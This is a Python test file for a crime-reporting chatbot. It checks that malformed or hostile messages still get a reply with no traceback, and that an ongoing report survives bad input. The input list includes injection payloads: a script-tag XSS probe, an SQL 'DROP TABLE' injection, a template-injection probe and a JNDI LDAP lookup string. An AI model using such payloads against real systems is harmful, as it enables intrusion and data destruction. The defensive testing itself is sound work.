"""Bad input gets a clear answer, never an error, and loses nothing captured."""

import uuid

import pytest

from tests.e2e.conftest import say, texts

BAD_INPUTS = [
    "",
    "   ",
    "a" * 20000,
    "\x00\x01\x02\ufffd\ufffd",
    "😀😀😀🚓🚓",
    "<script>alert(1)</script>",
    "'; DROP TABLE events; --",
    "/restart",
    "/back",
    "/not_an_intent",
    '/greet{"crime_type": ',
    "{{7*7}} ${jndi:ldap://x}",
]


@pytest.mark.parametrize("message", BAD_INPUTS, ids=range(len(BAD_INPUTS)))
def test_bad_input_gets_an_answer(stack, message):
    replies = say(stack, f"bad-{uuid.uuid4().hex[:8]}", message)
    assert replies, "the citizen must never be left without an answer"
    assert all("Traceback" not in (r.get("text") or "") for r in replies)


def test_bad_input_mid_report_keeps_the_report_going(stack):
    sender = f"bad-{uuid.uuid4().hex[:8]}"
    say(stack, sender, "i want to report a crime")
    for message in ("/restart", "", "😀"):
        say(stack, sender, message)
    replies = say(stack, sender, '/report_crime{"crime_type": "burglary"}')
    assert "A report will ask what happened" in texts(replies)
